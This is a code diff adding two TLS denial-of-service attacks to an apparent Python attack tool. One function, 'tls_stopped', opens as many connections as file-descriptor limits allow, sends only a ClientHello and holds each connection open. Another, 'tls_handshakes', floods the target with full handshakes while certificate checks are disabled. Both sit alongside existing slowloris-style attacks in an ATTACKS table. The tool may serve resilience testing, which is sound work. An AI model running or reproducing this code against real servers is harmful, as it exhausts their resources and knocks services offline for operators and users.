@@ -6,6 +6,7 @@ import contextlib
 import itertools
 import resource
 import socket
+import ssl
 import time
 from typing import Final
 
@@ -36,6 +37,49 @@ def idle(victim: Victim) -> None:
                 held.append(stack.enter_context(socket.create_connection(victim.http, TIMEOUT_S)))
             except OSError:
                 time.sleep(_DRIP_S)
+
+
+def tls_stopped(victim: Victim) -> None:
+    """Handshakes of TLS that begin and do not go on, as many connections as are taken."""
+    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
+    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
+    hello = _client_hello()
+    with contextlib.ExitStack() as stack:
+        for _ in range(min(most - _SPARE_DESCRIPTORS, _MOST_IDLE)):
+            if victim.left_s <= 0:
+                return
+            with contextlib.suppress(OSError):
+                one = stack.enter_context(socket.create_connection(victim.tls, TIMEOUT_S))
+                one.sendall(hello)
+        time.sleep(max(0.0, victim.left_s))
+
+
+def tls_handshakes(victim: Victim) -> None:
+    """Whole handshakes of TLS, without a pause; then the connection is closed."""
+
+    context = _trusting()
+
+    def talk() -> None:
+        with socket.create_connection(victim.tls, TIMEOUT_S) as plain:
+            context.wrap_socket(plain).close()
+
+    crowd(victim, _CROWD, talk)
+
+
+def _trusting() -> ssl.SSLContext:
+    """What believes every server."""
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    return context
+
+
+def _client_hello() -> bytes:
+    """The first bytes of a handshake."""
+    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
+    begun = _trusting().wrap_bio(incoming, outgoing)
+    with contextlib.suppress(ssl.SSLWantReadError):
+        begun.do_handshake()
+    return outgoing.read()
 
 
 def _dripping(victim: Victim, first: bytes, piece: bytes, http2_port: bool = False) -> None:
@@ -129,6 +173,8 @@ def _unread(victim: Victim, requests: bytes, address: tuple[str, int], start: by
 
 ATTACKS: Final = {
     "idle": idle,
+    "tls-stopped": tls_stopped,
+    "tls-handshakes": tls_handshakes,
     "slow-heads": slow_heads,
     "slow-bodies": slow_bodies,
     "half-requests": half_requests,
